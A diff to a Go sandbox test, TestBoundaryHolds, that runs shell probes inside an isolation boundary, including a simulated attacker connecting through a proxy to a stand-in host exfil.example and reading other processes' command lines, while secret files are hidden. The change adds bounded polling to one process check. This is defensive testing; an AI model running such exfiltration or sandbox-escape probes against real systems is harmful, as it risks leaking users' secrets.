@@ -123,7 +123,8 @@ func TestBoundaryHolds(t *testing.T) {
 		`echo "abstract $(` + self + ` attacker dial unix ` + abstract + `)"`,
 		`echo "proxy-denied $(` + self + ` attacker connect 127.0.0.1:3128 exfil.example:443)"`,
 		`echo "proc: $(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -cx '` + strings.ReplaceAll(m, ".", `\.`) + `')"`,
-		`echo "own-proc: $(sleep 30.25 & p=$!; cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -cx '30\.25'; kill $p)"`,
+		// The backgrounded sleep may not have exec'd yet when /proc is first read: poll (bounded) until it shows.
+		`echo "own-proc: $(sleep 30.25 & p=$!; n=0; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do n=$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -cx '30\.25'); [ "$n" = 1 ] && break; sleep 0.1; done; echo $n; kill $p)"`,
 	}, "\n")
 	var out, errb bytes.Buffer
 	spec := &boundary.Spec{RW: []string{slot}, RO: []string{self}, Hide: []string{filepath.Join(ws, "secret"), filepath.Join(ws, "notes.env")},
